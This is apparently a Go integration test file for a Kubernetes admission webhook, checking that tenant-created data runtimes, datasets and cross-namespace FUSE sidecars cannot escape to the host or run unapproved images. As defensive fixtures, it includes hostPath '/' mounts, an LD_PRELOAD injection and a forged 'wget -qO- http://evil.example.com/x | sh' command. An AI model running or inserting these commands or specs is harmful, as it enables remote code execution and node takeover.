package webhook_test

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	datav1alpha1 "github.com/sluice-data/sluice/api/v1alpha1"
	"github.com/sluice-data/sluice/tests/support/testobj"
	"github.com/sluice-data/sluice/webhook"
	"github.com/sluice-data/sluice/webhook/policy"
)

// tenantClient is a client acting as ServiceAccount "tenant" of ns, which
// a Role lets do anything with data.fluid.io objects in ns and nothing
// else: a namespace user of Fluid's usual tenancy.
func tenantClient(t *testing.T, ns string) client.Client {
	t.Helper()
	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "data-user", Namespace: ns},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{datav1alpha1.GroupVersion.Group}, Resources: []string{"*"}, Verbs: []string{"*"}}}}
	binding := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "data-user", Namespace: ns},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: role.Name},
		Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "tenant", Namespace: ns}}}
	for _, o := range []client.Object{role, binding} {
		if err := env.Client.Create(ctxT(t), o); err != nil {
			t.Fatal(err)
		}
	}
	cfg := rest.CopyConfig(env.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:" + ns + ":tenant"}
	c, err := client.New(cfg, client.Options{Scheme: env.Scheme})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// escapes are the objects of the audit's H2 proof: each asks for a host
// path or an image the platform did not choose, and each denial must name
// the rule and the field.
func escapes(ns, profile string) []struct {
	name string
	obj  client.Object
	want []string
} {
	kubelet := testobj.JuiceFSRuntime("kubelet", ns, 1, testobj.Level(datav1alpha1.SSD, "/var/lib/kubelet", "10Gi"))
	kubelet.Spec.JuiceFSVersion.Image = "busybox"
	thin := &datav1alpha1.ThinRuntime{ObjectMeta: metav1.ObjectMeta{Name: "thin", Namespace: ns}, Spec: datav1alpha1.ThinRuntimeSpec{
		ProfileName: profile,
		Fuse:        datav1alpha1.ThinFuseSpec{VersionSpec: datav1alpha1.VersionSpec{Image: "registry.example.com/evil"}, Command: []string{"sh"}},
	}}
	host := alluxioRuntime("host", ns)
	host.Spec.Volumes = []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
	return []struct {
		name string
		obj  client.Object
		want []string
	}{
		{"tier path and image", kubelet, []string{
			`spec.tieredstore.levels[0].path: host path "/var/lib/kubelet" is not under an allowed prefix`, "(rule tieredstore-path)",
			`spec.juicefsVersion.image: image "busybox" is not from an allowed registry`, "(rule image-registry)",
		}},
		{"local mount", testobj.Dataset("local", ns, testobj.WithMounts("local:///etc")), []string{
			`spec.mounts[0].mountPoint: local path "/etc" is not under an allowed prefix`, "(rule local-mount)",
		}},
		{"thin override", thin, []string{
			"spec.fuse.image: overrides the image of ThinRuntimeProfile " + profile, "spec.fuse.command: overrides the command of ThinRuntimeProfile " + profile, "(rule thin-override)",
		}},
		{"hostPath volume", host, []string{`spec.volumes[0].hostPath: hostPath volume "/" is not allowed`, "(rule host-path-volume)"}},
	}
}

// TestDefaultGuardsStopTenantEscape is the audit's H2 proof through the
// real API server: a ServiceAccount that may create data.fluid.io objects
// in its namespace is denied a runtime caching in /var/lib/kubelet with an
// image of its choice, a Dataset mounting local:///etc, a ThinRuntime
// overriding its profile's image and command, and a runtime with a
// hostPath volume, each denial naming its rule and field. A policy
// ConfigMap's guards for that namespace admit them there, and only there.
func TestDefaultGuardsStopTenantEscape(t *testing.T) {
	ns, other := env.Namespace(t), env.Namespace(t)
	profile := &datav1alpha1.ThinRuntimeProfile{ObjectMeta: metav1.ObjectMeta{Name: "guards-" + ns},
		Spec: datav1alpha1.ThinRuntimeProfileSpec{FileSystemType: "fuse.sample",
			Fuse: datav1alpha1.ThinFuseSpec{VersionSpec: datav1alpha1.VersionSpec{Image: "registry.example.com/fuse"}, Command: []string{"fuse-mount"}}}}
	if err := env.Client.Create(ctxT(t), profile); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = env.Client.Delete(context.Background(), profile) })
	waitForCache()

	tenants := map[string]client.Client{ns: tenantClient(t, ns), other: tenantClient(t, other)}
	for namespace, c := range tenants {
		for _, tt := range escapes(namespace, profile.Name) {
			err := c.Create(ctxT(t), tt.obj, client.DryRunAll)
			for _, want := range tt.want {
				if err == nil || !strings.Contains(err.Error(), want) {
					t.Fatalf("%s in %s: want a denial containing %q, got %v", tt.name, namespace, want, err)
				}
			}
		}
	}

	guards := &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: "guards-" + ns, Namespace: webhook.DefaultNamespace, Labels: map[string]string{policy.BundleLabel: "true"}},
		Data: map[string]string{"guards.yaml": "validating:\n  guards:\n    " + ns + ":\n" +
			"      imagePrefixes: [busybox, registry.example.com/]\n" +
			"      tieredstorePaths: [/dev/shm, /var/lib/kubelet]\n" +
			"      localPaths: [/etc]\n" +
			"      hostPathVolumes: [/]\n" +
			"      thinOverrides: [image, command]\n" +
			// The node's own directories are reserved whatever the lists
			// say; a platform lifts that too, explicitly.
			"      reservedHostPaths: []\n"},
	}
	if err := env.Client.Create(ctxT(t), guards); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = env.Client.Delete(context.Background(), guards) })
	waitFor(t, policyLoad, "the guards load", func() bool { return annotation(t, guards) == "ok" })

	for _, tt := range escapes(ns, profile.Name) {
		if err := tenants[ns].Create(ctxT(t), tt.obj); err != nil {
			t.Fatalf("%s in %s, whose guards allow it: %v", tt.name, ns, err)
		}
	}
	for _, tt := range escapes(other, profile.Name) {
		if err := tenants[other].Create(ctxT(t), tt.obj, client.DryRunAll); err == nil || !strings.Contains(err.Error(), tt.want[1]) {
			t.Fatalf("%s in %s, which the guards of %s do not cover: want %s, got %v", tt.name, other, ns, tt.want[1], err)
		}
	}
}

// TestCrossNamespaceSidecarImageIsTheConsumers is the audit's M12 proof
// through the real API server: with crossNamespace.allow letting team A's
// Pods use dataset B/raw, B's users set B's FUSE image to one of their
// own (the controller renders it into its record of B's FUSE template);
// A's serverless Pod is denied that sidecar (rule
// cross-namespace-sidecar-image) until A's own guards allow the image.
func TestCrossNamespaceSidecarImageIsTheConsumers(t *testing.T) {
	consumer, producer := env.Namespace(t), env.Namespace(t)
	seedDataset(t, producer, "raw", datav1alpha1.BoundDatasetPhase)
	// B's runtime renders a FUSE image of B's own registry (spec.fuse.image):
	// the controller's record holds it.
	recordFuse(t, producer, "raw", func(spec *corev1.PodSpec) { spec.Containers[0].Image = "evil.example.com/fuse:latest" })
	cm := crossNamespaceClaim(t, consumer, producer)

	pod := datasetPod("app", map[string]string{"serverless.fluid.io/inject": "true"}, "raw")
	pod.Namespace = consumer
	err := env.Client.Create(ctxT(t), pod.DeepCopy(), client.DryRunAll)
	want := `whose FUSE sidecar runs image "evil.example.com/fuse:latest" chosen in namespace "` + producer + `"`
	if err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), "cross-namespace-sidecar-image") {
		t.Fatalf("a serverless Pod using %s/raw with a sidecar of the producer's image: want a denial containing %q (rule cross-namespace-sidecar-image), got %v", producer, want, err)
	}

	if err := env.Client.Get(ctxT(t), client.ObjectKeyFromObject(cm), cm); err != nil {
		t.Fatal(err)
	}
	cm.Data["cross.yaml"] = crossNamespaceBundle(consumer, producer, "validating:\n  guards:\n    "+consumer+":\n      imagePrefixes: [evil.example.com/]\n")
	if err := env.Client.Update(ctxT(t), cm); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, "the consumer's image list admits the sidecar", func() bool {
		return env.Client.Create(ctxT(t), pod.DeepCopy(), client.DryRunAll) == nil
	})
}

// TestCrossNamespaceSidecarIsTheControllersTemplate (reliability audit
// M12): namespace B's users change the command, env and volumes of B's FUSE
// DaemonSet; namespace A's serverless Pod using B's dataset gets the
// sidecar the controller recorded for B's runtime, not B's change. Without
// a record it is denied (rule cross-namespace-sidecar-record). B's own Pods
// keep getting B's DaemonSet's template.
func TestCrossNamespaceSidecarIsTheControllersTemplate(t *testing.T) {
	consumer, producer := env.Namespace(t), env.Namespace(t)
	seedDataset(t, producer, "raw", datav1alpha1.BoundDatasetPhase)
	record := recordFuse(t, producer, "raw", nil)
	rendered := record.Template.Spec.Containers[0]
	fuse := &appsv1.DaemonSet{}
	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: producer, Name: "raw" + datav1alpha1.FuseDaemonSetSuffix}, fuse); err != nil {
		t.Fatal(err)
	}
	forged := &fuse.Spec.Template.Spec
	forged.Containers[0].Command = []string{"sh", "-c", "wget -qO- http://evil.example.com/x | sh"}
	forged.Containers[0].Env = append(forged.Containers[0].Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/host/evil.so"})
	forged.Volumes = append(forged.Volumes, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
	forged.Containers[0].VolumeMounts = append(forged.Containers[0].VolumeMounts, corev1.VolumeMount{Name: "host", MountPath: "/host"})
	if err := env.Client.Update(ctxT(t), fuse); err != nil {
		t.Fatal(err)
	}
	crossNamespaceClaim(t, consumer, producer)

	sidecar := func(ns string) (*corev1.Container, *corev1.Pod) {
		t.Helper()
		pod := datasetPod("app", map[string]string{"serverless.fluid.io/inject": "true"}, "raw")
		pod.Namespace = ns
		if err := env.Client.Create(ctxT(t), pod, client.DryRunAll); err != nil {
			t.Fatalf("a serverless Pod of %s using %s/raw: %v", ns, producer, err)
		}
		for _, cs := range [][]corev1.Container{pod.Spec.InitContainers, pod.Spec.Containers} {
			for i := range cs {
				if strings.HasPrefix(cs[i].Name, "fluid-fuse-") {
					return &cs[i], pod
				}
			}
		}
		t.Fatalf("a serverless Pod of %s using %s/raw got no FUSE sidecar: %+v", ns, producer, pod.Spec)
		return nil, nil
	}
	c, pod := sidecar(consumer)
	if !slices.Equal(c.Command, rendered.Command) {
		t.Errorf("the consumer's sidecar runs %q, want the recorded %q", c.Command, rendered.Command)
	}
	for _, e := range c.Env {
		if e.Name == "LD_PRELOAD" {
			t.Errorf("the consumer's sidecar got the producer's env %s=%s", e.Name, e.Value)
		}
	}
	for _, v := range pod.Spec.Volumes {
		if v.HostPath != nil && v.HostPath.Path == "/" {
			t.Errorf("the consumer's Pod got the producer's hostPath volume %q", v.Name)
		}
	}
	if own, _ := sidecar(producer); !slices.Equal(own.Command, forged.Containers[0].Command) {
		t.Errorf("the producer's own sidecar runs %q, want its DaemonSet's %q", own.Command, forged.Containers[0].Command)
	}

	if err := env.Client.Delete(ctxT(t), record); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, "without the record the consumer's Pod is denied", func() bool {
		pod := datasetPod("app", map[string]string{"serverless.fluid.io/inject": "true"}, "raw")
		pod.Namespace = consumer
		err := env.Client.Create(ctxT(t), pod, client.DryRunAll)
		return err != nil && strings.Contains(err.Error(), "cross-namespace-sidecar-record")
	})
}

// recordFuse writes the FUSE record of producer/name's runtime as the
// controller does (datav1alpha1.FuseRecord, in the webhook's namespace),
// from its FUSE DaemonSet's template changed by change (nil: as it is),
// and waits until the webhook's cache has it.
func recordFuse(t *testing.T, producer, name string, change func(*corev1.PodSpec)) *corev1.PodTemplate {
	t.Helper()
	rt := &datav1alpha1.JuiceFSRuntime{}
	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: producer, Name: name}, rt); err != nil {
		t.Fatal(err)
	}
	fuse := &appsv1.DaemonSet{}
	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: producer, Name: name + datav1alpha1.FuseDaemonSetSuffix}, fuse); err != nil {
		t.Fatal(err)
	}
	tmpl := *fuse.Spec.Template.DeepCopy()
	if change != nil {
		change(&tmpl.Spec)
	}
	record := datav1alpha1.FuseRecord(webhook.DefaultNamespace, rt, tmpl)
	if err := env.Client.Create(ctxT(t), record); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = env.Client.Delete(context.Background(), record) })
	waitForCache()
	return record
}

// crossNamespaceClaim gives consumer a claim on producer's dataset "raw"
// volume and a policy ConfigMap allowing its use (crossNamespace.allow),
// loaded when it returns.
func crossNamespaceClaim(t *testing.T, consumer, producer string) *corev1.ConfigMap {
	t.Helper()
	theirs := &corev1.PersistentVolumeClaim{}
	if err := env.Client.Get(ctxT(t), client.ObjectKey{Namespace: producer, Name: "raw"}, theirs); err != nil {
		t.Fatal(err)
	}
	mine := &corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Name: "raw", Namespace: consumer, Labels: theirs.Labels}, Spec: *theirs.Spec.DeepCopy()}
	if err := env.Client.Create(ctxT(t), mine); err != nil {
		t.Fatal(err)
	}
	cm := &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: "cross-" + consumer, Namespace: webhook.DefaultNamespace, Labels: map[string]string{policy.BundleLabel: "true"}},
		Data:       map[string]string{"cross.yaml": crossNamespaceBundle(consumer, producer, "")},
	}
	if err := env.Client.Create(ctxT(t), cm); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = env.Client.Delete(context.Background(), cm) })
	waitFor(t, policyLoad, "the bundle loads", func() bool { return annotation(t, cm) == "ok" })
	waitForCache()
	return cm
}

func crossNamespaceBundle(consumer, producer, guards string) string {
	return "mutating:\n  crossNamespace:\n    allow: [{podNamespace: " + consumer + ", datasetNamespace: " + producer + ", dataset: raw}]\n" + guards
}
